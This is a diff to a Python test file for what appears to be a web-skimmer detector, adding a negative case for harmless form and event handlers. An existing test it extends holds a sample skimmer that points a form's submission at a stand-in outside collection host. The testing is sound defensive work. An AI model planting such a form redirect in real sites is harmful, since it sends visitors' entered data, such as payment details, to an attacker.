@@ -125,3 +125,13 @@ def test_a_submit_listener_that_points_the_form_elsewhere_is_a_skimmer() -> None
         "e.target.action='https://collect.heliotrope.example/in';},true);</script>"
     )
     assert ("https://collect.heliotrope.example/in", SKIMMER) in loads(script)
+
+
+def test_an_action_field_of_an_event_or_a_form_sent_to_the_site_itself_is_no_skimmer() -> None:
+    script = (
+        "<script>document.querySelectorAll('input[type=checkbox]').forEach(function(b){"
+        "b.addEventListener('change',function(ev){ev.action='toggle';if(ev.action=='x'){}});});"
+        "document.forms[0].addEventListener('submit',function(){this.action='/suche';});"
+        "var cfg={widget:'https://cdn.widgetvendor.example/w.js'};</script>"
+    )
+    assert all(how != SKIMMER for _, how in loads(script))
